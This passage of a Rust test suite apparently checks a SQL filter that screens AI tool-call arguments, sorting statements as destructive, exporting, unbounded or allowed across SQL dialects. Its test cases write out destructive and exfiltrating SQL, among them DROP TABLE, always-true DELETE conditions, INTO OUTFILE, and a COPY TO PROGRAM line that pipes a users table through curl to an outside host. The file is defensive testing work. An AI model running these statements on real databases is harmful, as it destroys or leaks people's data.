            "/*!50000 DROP TABLE users */",
            DESTROYS,
        ),
        sql(
            "postgres database_to_xml",
            "SELECT database_to_xml(true, true, '')",
            UNBOUNDED,
        ),
        sql(
            "explain only plans",
            "EXPLAIN SELECT id FROM orders WHERE id = 3",
            Allow,
        ),
        sql(
            "copy query to stdout",
            "COPY (SELECT * FROM users) TO STDOUT",
            EXPORTS,
        ),
        sql(
            "copy bounded query to stdout",
            "COPY (SELECT * FROM users LIMIT 5) TO STDOUT",
            EXPORTS,
        ),
        sql("copy from file", "COPY users FROM '/tmp/x'", Allow),
        sql(
            "into outfile",
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            EXPORTS,
        ),
        sql(
            "into outfile lowercase",
            "select * from users into outfile '/tmp/x'",
            EXPORTS,
        ),
        sql(
            "into outfile with limit",
            "SELECT * FROM users LIMIT 5 INTO OUTFILE '/tmp/x'",
            EXPORTS,
        ),
        sql(
            "into dumpfile",
            "SELECT ssn FROM users LIMIT 1 INTO DUMPFILE '/tmp/x'",
            EXPORTS,
        ),
        args(
            "into outfile under text key",
            json!({"text": "SELECT * FROM users INTO OUTFILE '/tmp/x'"}),
            EXPORTS,
            "/text",
        ),
        sql(
            "into comment outfile",
            "SELECT * FROM users INTO /* x */ OUTFILE '/tmp/x'",
            EXPORTS,
        ),
        args(
            "attach under note key",
            json!({"note": "attach database '/tmp/x.db' as x"}),
            EXPORTS,
            "/note",
        ),
        sql("copy table to stdout", "COPY users TO STDOUT", EXPORTS),
        sql(
            "into outfile in a literal",
            "SELECT 'INTO OUTFILE' FROM t LIMIT 5",
            Allow,
        ),
        sql(
            "attach database",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            EXPORTS,
        ),
    ];
    check("export-generic", &[], 1000, &generic);

    let postgres = [
        sql("pg copy table to file", "COPY users TO '/tmp/x'", EXPORTS),
        sql(
            "pg copy to stdout csv",
            "COPY users TO STDOUT WITH (FORMAT csv, HEADER)",
            EXPORTS,
        ),
        sql(
            "pg copy query to stdout",
            "COPY (SELECT * FROM users) TO STDOUT",
            EXPORTS,
        ),
        sql(
            "pg copy to program",
            "COPY users TO PROGRAM 'curl -d @- http://x'",
            EXPORTS,
        ),
        sql(
            "pg copy columns to file",
            "COPY users (id, ssn) TO '/tmp/x' WITH (FORMAT csv)",
            EXPORTS,
        ),
        sql("pg copy from file", "COPY users FROM '/tmp/x'", Allow),
        sql("pg copy from stdin", "COPY users FROM STDIN", Allow),
    ];
    check(
        "export-postgres",
        &["--dialect", "postgres"],
        1000,
        &postgres,
    );

    let mysql = [
        sql(
            "mysql into outfile",
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            EXPORTS,
        ),
        sql(
            "mysql into outfile before from",
            "SELECT * INTO OUTFILE '/tmp/x' FROM users",
            EXPORTS,
        ),
        sql(
            "mysql into dumpfile",
            "SELECT ssn FROM users LIMIT 1 INTO DUMPFILE '/tmp/x'",
            EXPORTS,
        ),
        args(
            "mysql into outfile under note key",
            json!({"note": "SELECT * FROM users INTO OUTFILE '/tmp/x'"}),
            EXPORTS,
            "/note",
        ),
    ];
    check("export-mysql", &["--dialect", "mysql"], 1000, &mysql);

    let sqlite = [
        sql(
            "sqlite attach database",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            EXPORTS,
        ),
        sql("sqlite attach", "ATTACH '/tmp/x.db' AS x", EXPORTS),
    ];
    check("export-sqlite", &["--dialect", "sqlite"], 1000, &sqlite);
}

/// Rule 3.
#[test]
fn destructive_statements_are_blocked() {
    let always_true = [
        ("1=1", "1=1"),
        ("TRUE", "TRUE"),
        ("'a'='a'", "'a'='a'"),
        ("OR 1=1", "id = 5 OR 1=1"),
        ("NOT 0", "NOT 0"),
        ("1", "1"),
        ("2>1", "2>1"),
        ("id = id", "id = id"),
        ("(1=1)", "(1=1)"),
        ("TRUE OR", "TRUE OR id = 5"),
        ("1 <> 2", "1 <> 2"),
        ("1 != 2", "1 != 2"),
        ("NOT FALSE", "NOT FALSE"),
        ("NOT (1=0)", "NOT (1=0)"),
        ("1+1=2", "1+1=2"),
        ("1 IN (1, 2)", "1 IN (1, 2)"),
        ("1 BETWEEN 0 AND 2", "1 BETWEEN 0 AND 2"),
        ("NULL IS NULL", "NULL IS NULL"),
        ("qualified id = id", "users.id = users.id"),
        ("quoted id = id", "\"id\" = \"id\""),
        ("id >= id", "id >= id"),
        ("(id = 5) OR (2 > 1)", "(id = 5) OR (2 > 1)"),
        ("1=1 then comment", "1=1 -- AND id = 5"),
        ("1=1 then block comment", "1=1 /* AND id = 5 */"),
        ("OR TRUE", "id = 5 OR TRUE"),
        ("parenthesised side", "(id) = id"),
        ("numeric string", "1 = '1'"),
    ];
    let mut cases = vec![
        sql("drop table", "DROP TABLE users", DESTROYS),
        sql("drop table lowercase", "drop table users", DESTROYS),
        sql(
            "drop table if exists",
            "DROP TABLE IF EXISTS users",
            DESTROYS,
        ),
        sql("drop view", "DROP VIEW v", DESTROYS),
        sql("drop index", "DROP INDEX i", DESTROYS),
        sql("truncate table", "TRUNCATE TABLE users", DESTROYS),
        sql("truncate", "TRUNCATE users", DESTROYS),
        sql("delete without where", "DELETE FROM users", DESTROYS),
        sql("update without where", "UPDATE users SET a = 1", DESTROYS),
        sql("delete with where", "DELETE FROM users WHERE id = 5", Allow),
        sql(
            "update with where",
            "UPDATE users SET a = 1 WHERE id = 5",
            Allow,
        ),
        sql(
            "delete 1=1 and real",
            "DELETE FROM users WHERE 1=1 AND id = 5",
            Allow,
        ),
        sql(
            "update 1=1 and real",
            "UPDATE users SET a = 1 WHERE 1=1 AND id = 5",
            Allow,
        ),
        sql(
            "delete with subquery where",
            "DELETE FROM users WHERE id IN (SELECT id FROM banned)",
            Allow,
        ),
        sql("delete where 0", "DELETE FROM users WHERE 0", Allow),
        sql("delete where FALSE", "DELETE FROM users WHERE FALSE", Allow),
        sql(
            "delete real and 1=1",
            "DELETE FROM users WHERE id = 5 AND 1=1",
            Allow,
        ),
        sql(
            "delete where or 1=1 in comment",
            "DELETE FROM users WHERE id = 5 -- OR 1=1",
            Allow,
        ),
        sql("drop schema", "DROP SCHEMA s CASCADE", DESTROYS),
        sql("drop database", "DROP DATABASE d", DESTROYS),
        sql(
            "delete after cte",
            "WITH x AS (SELECT 1) DELETE FROM users",
            DESTROYS,
        ),
        sql(
            "delete inside cte",
            "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d",
            DESTROYS,
        ),
        sql(
            "explain analyze delete",
            "EXPLAIN ANALYZE DELETE FROM users",
            DESTROYS,
        ),
        sql(
            "select then delete",
            "SELECT 1; DELETE FROM users",
            DESTROYS,
        ),
        sql(
            "delete constant false",
            "DELETE FROM users WHERE 1=0",
            Allow,
        ),
        sql(
            "insert",
            "INSERT INTO users (id, name) VALUES (1, 'a')",
            Allow,
        ),
        sql("create table", "CREATE TABLE t (id INT)", Allow),
        sql("create index", "CREATE INDEX i ON t (a)", Allow),
    ];
    for (label, cond) in always_true {
        cases.push(sql(
            &format!("delete where {label}"),
            &format!("DELETE FROM users WHERE {cond}"),
            DESTROYS,
        ));
        cases.push(sql(
            &format!("update where {label}"),
            &format!("UPDATE users SET a = 1 WHERE {cond}"),
            DESTROYS,
        ));
    }
    check("destructive", &[], 1000, &cases);
}

/// Only `tools/call` is inspected, and only its string arguments.
#[test]
fn only_tool_call_arguments_are_inspected() {
    let cases = [
        call(
            "resources/read with sql",
            "resources/read",
            Some(json!({"uri": "db://x", "query": "SELECT * FROM users"})),
            Allow,
            "",
        ),
        call(
            "resources/read with arguments",
            "resources/read",
            Some(json!({"uri": "db://x", "arguments": {"query": "DROP TABLE users"}})),
            Allow,
            "",
        ),
        call(
            "prompts/get with sql",
            "prompts/get",
            Some(json!({"name": "p", "arguments": {"query": "SELECT * FROM users"}})),
            Allow,
            "",
        ),
        call(
            "prompts/get with drop",
            "prompts/get",
            Some(json!({"name": "p", "arguments": {"sql": "DROP TABLE users"}})),
            Allow,
            "",
        ),
        call("tools/call without params", "tools/call", None, Allow, ""),
        call(
            "tools/call without arguments",
            "tools/call",
            Some(json!({"name": TOOL})),
            Allow,
            "",
        ),
        args("empty arguments", json!({}), Allow, ""),
        args(
            "non-string arguments",
            json!({"limit": 5, "flag": true, "none": null, "list": [1, 2.5, false], "o": {"n": 1}}),
            Allow,
            "",
        ),
        call(
            "tools/call with null arguments",
            "tools/call",
            Some(json!({"name": TOOL, "arguments": null})),
            Allow,
            "",
        ),
        // The same SQL in a tools/call is blocked, so the above pass for the right reason.
        sql("tools/call with sql", "SELECT * FROM users", UNBOUNDED),
        args(
            "tools/call with drop",
            json!({"sql": "DROP TABLE users"}),
            DESTROYS,
            "/sql",
        ),
    ];
    check("methods", &[], 1000, &cases);
}

#[test]
fn sqlite_dialect() {
    let cases = [
        sql("sqlite limit -1", "SELECT * FROM t LIMIT -1", UNBOUNDED),
        sql(
            "sqlite limit -1 offset",
            "SELECT * FROM t LIMIT -1 OFFSET 5",
            UNBOUNDED,
        ),
        sql("sqlite limit 10", "SELECT * FROM t LIMIT 10", Allow),
        sql(
            "sqlite limit 10 offset",
            "SELECT * FROM t LIMIT 10 OFFSET 5",
            Allow,
        ),
        sql(
            "sqlite offset,count small",
            "SELECT * FROM t LIMIT 5000, 10",
            Allow,
        ),
        sql(
            "sqlite offset,count large",
            "SELECT * FROM t LIMIT 10, 5000",
            UNBOUNDED,
        ),
        sql("sqlite no limit", "SELECT * FROM t", UNBOUNDED),
        sql(
            "sqlite group_concat",
            "SELECT group_concat(ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "sqlite json_group_array",
            "SELECT json_group_array(ssn) FROM users",
            UNBOUNDED,
        ),
        sql("sqlite count", "SELECT count(*) FROM t", Allow),
        sql("sqlite delete all", "DELETE FROM t", DESTROYS),
        sql("sqlite drop", "DROP TABLE t", DESTROYS),
    ];
    check("sqlite", &["--dialect", "sqlite"], 1000, &cases);
}

#[test]
fn postgres_dialect() {
    let cases = [
        sql(
            "pg fetch first",
            "SELECT * FROM t FETCH FIRST 10 ROWS ONLY",
            Allow,
        ),
        sql(
            "pg fetch first above max",
            "SELECT * FROM t FETCH FIRST 1001 ROWS ONLY",
            UNBOUNDED,
        ),
        sql("pg limit", "SELECT * FROM t LIMIT 10", Allow),
        sql("pg limit all", "SELECT * FROM t LIMIT ALL", UNBOUNDED),
        sql("pg limit $1", "SELECT * FROM t LIMIT $1", UNBOUNDED),
        sql("pg offset alone", "SELECT * FROM t OFFSET 10", UNBOUNDED),
        sql("pg no limit", "SELECT * FROM t", UNBOUNDED),
        sql(
            "pg string_agg",
            "SELECT string_agg(name, ',') FROM users",
            UNBOUNDED,
        ),
        sql(
            "pg json_agg",
            "SELECT json_agg(u) FROM users u LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "pg limit in cte",
            "WITH c AS (SELECT * FROM t LIMIT 5) SELECT * FROM c",
            UNBOUNDED,
        ),
        sql("pg truncate", "TRUNCATE users", DESTROYS),
        sql(
            "pg update where true",
            "UPDATE t SET a = 1 WHERE TRUE",
            DESTROYS,
        ),
    ];
    check("postgres", &["--dialect", "postgres"], 1000, &cases);
}

#[test]
fn mysql_dialect() {
    let cases = [
        sql("mysql limit", "SELECT * FROM t LIMIT 10", Allow),
        sql(
            "mysql offset,count small",
            "SELECT * FROM t LIMIT 5000, 10",
            Allow,
        ),
        sql(
            "mysql offset,count large",
            "SELECT * FROM t LIMIT 10, 5000",
            UNBOUNDED,
        ),
        sql(
            "mysql all-rows idiom",
            "SELECT * FROM t LIMIT 18446744073709551615 OFFSET 5",
            UNBOUNDED,
        ),
        sql("mysql no limit", "SELECT * FROM t", UNBOUNDED),
        sql(
            "mysql group_concat",
            "SELECT group_concat(ssn SEPARATOR ',') FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql("mysql delete all", "DELETE FROM t", DESTROYS),
    ];
    check("mysql", &["--dialect", "mysql"], 1000, &cases);
}

#[test]
fn mssql_dialect() {
    let cases = [
        sql("mssql top 10", "SELECT TOP 10 * FROM users", Allow),
        sql("mssql top (10)", "SELECT TOP (10) * FROM users", Allow),
        sql("mssql top at max", "SELECT TOP 1000 * FROM users", Allow),
        sql(
            "mssql top above max",
            "SELECT TOP 5000 * FROM users",
            UNBOUNDED,
        ),
        sql(
            "mssql top percent",
            "SELECT TOP 10 PERCENT * FROM users",
            UNBOUNDED,
        ),
        sql(
            "mssql top placeholder",
            "SELECT TOP (@n) * FROM users",
            UNBOUNDED,
        ),
        sql("mssql no top", "SELECT * FROM users", UNBOUNDED),
        sql(
            "mssql top in subquery only",
            "SELECT * FROM (SELECT TOP 5 * FROM users) s",
            UNBOUNDED,
        ),
        sql(
            "mssql offset fetch",
            "SELECT * FROM users ORDER BY id OFFSET 0 ROWS FETCH NEXT 10 ROWS ONLY",
            Allow,
        ),
        sql("mssql count", "SELECT count(*) FROM users", Allow),
        // T-SQL IF parses as SQL, so its statements are analysed.
        sql(
            "mssql if with unbounded select",
            "IF 1=1 SELECT * FROM users",
            UNBOUNDED,
        ),
        sql("mssql if with drop", "IF 1=1 DROP TABLE users", DESTROYS),
        sql(
            "mssql if block with drop",
            "IF 1=1 BEGIN DROP TABLE users END",
            DESTROYS,
        ),
        sql(
            "mssql while with unbounded select",
            "WHILE 1=1 SELECT * FROM users;",
            UNBOUNDED,
        ),
        sql(
            "mssql if with bounded select",
            "IF 1=1 SELECT TOP 10 * FROM users",
            Allow,
        ),
        sql("mssql delete all", "DELETE FROM users", DESTROYS),
    ];
    check("mssql", &["--dialect", "mssql"], 1000, &cases);
}

#[test]
fn unknown_dialect_is_a_usage_error() {
    let run = sentinel("bogus", &["--dialect", "bogus"], Vec::new());
    let code = run.status.code();
    let _ = std::fs::remove_dir_all(&run.dir);
    assert_eq!(code, Some(2), "exit status; stderr: {}", run.stderr);
    let stderr = run.stderr.trim_end();
    assert_eq!(
        stderr.lines().count(),
        1,
        "stderr must be one line: {stderr:?}"
    );
    assert!(
        stderr.contains("--dialect"),
        "stderr must name --dialect: {stderr:?}"
    );
    assert!(run.stdout.is_empty(), "stdout: {:?}", run.stdout);
}

/// `DELETE FROM t WHERE cond` for each `(cond, expect)`: the table of a constant-folding test.
fn where_cases(conds: &[(&str, Expect)]) -> Vec<Case> {
    conds
        .iter()
        .map(|&(cond, expect)| {
            sql(
                &format!("delete where {cond}"),
                &format!("DELETE FROM t WHERE {cond}"),
                expect,
            )
        })
        .collect()
}

/// Constant folding of each operator, with a case on each side of its boundary. Operands are
/// never written identically on both sides (`2 <= 2` is caught as `x <= x` without folding).
#[test]
fn constant_where_folds_every_operator() {
    let conds = [
        // Comparisons: less, equal (written differently) and greater.
        ("1 < 2", DESTROYS),
        ("2 < 1", Allow),
        ("2 < 1 + 1", Allow),
        ("2 <= 3", DESTROYS),
        ("2 <= 1 + 1", DESTROYS),
        ("3 <= 2", Allow),
        ("3 > 2", DESTROYS),
        ("1 + 1 > 2", Allow),
        ("3 >= 2", DESTROYS),
        ("2 >= 1 + 1", DESTROYS),
        ("2 >= 3", Allow),
        // Arithmetic.
        ("5 - 2 = 3", DESTROYS),
        ("5 - 2 = 7", Allow),
        ("5 - 2 = 10", Allow),
        ("5 - 2 = 2.5", Allow),
        ("2 * 3 = 6", DESTROYS),
        ("2 * 3 = 5", Allow),
        ("(1 + 1) = 2", DESTROYS),
        ("CAST(1 AS INT) = 1", DESTROYS),
        // Unary operators inside a comparison.
        ("-2 < 0", DESTROYS),
        ("-2 > 0", Allow),
        ("+2 > 0", DESTROYS),
        ("+2 < 0", Allow),
        ("(NOT 0) = TRUE", DESTROYS),
        ("(NOT 1) = TRUE", Allow),
        // AND / OR folded as values inside a comparison.
        ("(1 AND 1) = TRUE", DESTROYS),
        ("(1 AND 0) = FALSE", DESTROYS),
        ("(1 AND 0) = TRUE", Allow),
        ("(1 OR 0) = TRUE", DESTROYS),
        ("(0 OR 0) = TRUE", Allow),
        // IS tests.
        ("1 IS NOT NULL", DESTROYS),
        ("NULL IS NOT NULL", Allow),
        ("(1 = 1) IS TRUE", DESTROYS),
        ("(1 = 0) IS TRUE", Allow),
        ("(1 = 1) IS NOT FALSE", DESTROYS),
        ("(1 = 0) IS NOT FALSE", Allow),
        // BETWEEN and IN.
        ("5 BETWEEN 0 AND 2", Allow),
        ("5 NOT BETWEEN 0 AND 2", DESTROYS),
        ("3 IN (3)", DESTROYS),
        ("5 IN (1, 2)", Allow),
        ("5 NOT IN (1, 2)", DESTROYS),
        // LIKE / ILIKE: only the match-everything pattern folds.
        ("'abc' LIKE '%'", DESTROYS),
        ("'abc' LIKE '%%'", DESTROYS),
        ("'abc' ILIKE '%'", DESTROYS),
        ("'abc' NOT LIKE '%'", Allow),
        ("'abc' NOT ILIKE '%'", Allow),
        ("'abc' LIKE 'x%'", Allow),
        ("'abc' LIKE 'x'", Allow),
        ("'abc' LIKE ''", Allow),
        // Strings, numeric strings and booleans.
        ("'a' < 'b'", DESTROYS),
        ("'b' < 'a'", Allow),
        ("'1' = 1", DESTROYS),
        ("'2' = 1", Allow),
        ("TRUE > FALSE", DESTROYS),
        ("TRUE < FALSE", Allow),
        ("TRUE <> FALSE", DESTROYS),
        // A string on its own is true when it is a non-zero number.
        ("'1'", DESTROYS),
        ("'0'", Allow),
        ("'abc'", Allow),
        // A quoted "TRUE" is a column, not the constant.
        ("\"TRUE\"", Allow),
        ("\"FALSE\" = FALSE", Allow),
    ];
    check("fold-operators", &[], 1000, &where_cases(&conds));
}

/// How AND, OR, NOT, parentheses and `x = x` combine conditions that fold only partly.
#[test]
fn constant_where_combines_conditions() {
    let conds = [
        ("1 = 1 AND 2 = 2", DESTROYS),
        ("id = id AND 1 = 1", DESTROYS),
        ("NOT (FALSE AND id = 5)", DESTROYS),
        ("NOT (id = 5 AND 1 = 0)", DESTROYS),
        ("NOT (id = 5 AND 1 = 1)", Allow),
        ("NOT (1 = 0 OR 2 = 3)", DESTROYS),
        ("NOT (1 = 0 OR id = 5)", Allow),
        ("(id = id)", DESTROYS),
        ("((id <= id))", DESTROYS),
        // A function call may differ between its two sides.
        ("random() = random()", Allow),
        ("(SELECT max(id) FROM t) = (SELECT max(id) FROM t)", Allow),
    ];
    check("fold-combinations", &[], 1000, &where_cases(&conds));
}

/// Dialects without boolean literals parse TRUE and FALSE as identifiers: unquoted they still
/// mean the constants, quoted they are columns.
#[test]
fn true_and_false_identifiers_without_boolean_literals() {
    let conds = [
        ("TRUE", DESTROYS),
        ("true", DESTROYS),
        ("NOT FALSE", DESTROYS),
        ("FALSE", Allow),
        ("NOT TRUE", Allow),
        ("\"TRUE\"", Allow),
        ("[TRUE]", Allow),
        ("NOT \"FALSE\"", Allow),
    ];
    check(
        "bool-idents-mssql",
        &["--dialect", "mssql"],
        1000,
        &where_cases(&conds),
    );
    let conds = [
        ("TRUE", DESTROYS),
        ("NOT FALSE", DESTROYS),
        ("FALSE", Allow),
        ("\"TRUE\"", Allow),
    ];
    check(
        "bool-idents-oracle",
        &["--dialect", "oracle"],
        1000,
        &where_cases(&conds),
    );
}

/// Aggregate-only projections stay one row through unary operators, parentheses, casts and
/// arithmetic between aggregates.
#[test]
fn aggregate_only_projection_through_operators() {
    let cases = [
        sql("negated count", "SELECT -count(*) FROM t", Allow),
        sql("parenthesised count", "SELECT (count(*)) FROM t", Allow),
        sql("cast count", "SELECT CAST(count(*) AS TEXT) FROM t", Allow),
        sql(
            "count plus count",
            "SELECT count(*) + count(*) FROM t",
            Allow,
        ),
        sql("count plus constant", "SELECT count(*) + 1 FROM t", Allow),
        sql("constant sum of columns", "SELECT 1 + 1 FROM t", UNBOUNDED),
        sql("negated column", "SELECT -id FROM t", UNBOUNDED),
        sql("parenthesised column", "SELECT (id) FROM t", UNBOUNDED),
        sql(
            "count plus column",
            "SELECT count(*) + id FROM t",
            UNBOUNDED,
        ),
    ];
    check("aggregate-operators", &[], 1000, &cases);
}

/// Warehouse exports are exports, whatever their inner query (a bounded one included).
#[test]
fn warehouse_exports_are_exports() {
    let redshift = [
        sql(
            "unload bounded query",
            "UNLOAD (SELECT * FROM users LIMIT 5) TO 's3://bucket/x'",
            EXPORTS,
        ),
        sql(
            "unload unbounded query",
            "UNLOAD (SELECT * FROM users) TO 's3://bucket/x'",
            EXPORTS,
        ),
        sql(
            "unload query text",
            "UNLOAD ('SELECT * FROM users') TO 's3://bucket/x' IAM_ROLE 'arn:aws:iam::1:role/r'",
            EXPORTS,
        ),
    ];
    check(
        "unload-redshift",
        &["--dialect", "redshift"],
        1000,
        &redshift,
    );
    let bigquery = [
        sql(
            "export data bounded query",
            "EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS \
             SELECT * FROM users LIMIT 5",
            EXPORTS,
        ),
        sql(
            "export data unbounded query",
            "EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS \
             SELECT * FROM users",
            EXPORTS,
        ),
        sql(
            "export data count",
            "EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS \
             SELECT count(*) FROM users",
            EXPORTS,
        ),
    ];
    check(
        "export-data-bigquery",
        &["--dialect", "bigquery"],
        1000,
        &bigquery,
    );
}

/// ClickHouse's `LIMIT n BY col` limits rows per group, so it bounds nothing.
#[test]
fn clickhouse_limit_by_bounds_nothing() {
    let cases = [
        sql("limit by", "SELECT * FROM t LIMIT 5 BY category", UNBOUNDED),
        sql(
            "limit by two columns",
            "SELECT * FROM t ORDER BY x LIMIT 1 BY a, b",
            UNBOUNDED,
        ),
        sql("plain limit", "SELECT * FROM t LIMIT 5", Allow),
    ];
    check(
        "clickhouse-limit-by",
        &["--dialect", "clickhouse"],
        1000,
        &cases,
    );
}

/// The token scan for `INTO OUTFILE` / `VACUUM INTO` in unparseable SQL: only the unquoted
/// word INTO right before OUTFILE/DUMPFILE, or INTO in a statement that starts with VACUUM.
#[test]
fn into_file_scan_of_unparseable_sql() {
    let cases = [
        sql(
            "quoted into before outfile",
            "SELECT * FROM t WHERE \"INTO\" OUTFILE",
            UNPARSED,
        ),
        sql("outfile column", "SELECT outfile FROM t WHERE", UNPARSED),
        sql("unfinished insert into", "INSERT INTO t VALUES (", UNPARSED),
        sql(
            "unparseable vacuum without into",
            "VACUUM t garbage (",
            Allow,
        ),
        sql("vacuum into", "VACUUM main INTO '/tmp/x'", EXPORTS),
        sql(
            "into comment dumpfile",
            "SELECT * FROM t INTO /* x */ DUMPFILE '/tmp/x'",
            EXPORTS,
        ),
    ];
    check("into-file-scan", &[], 1000, &cases);
}
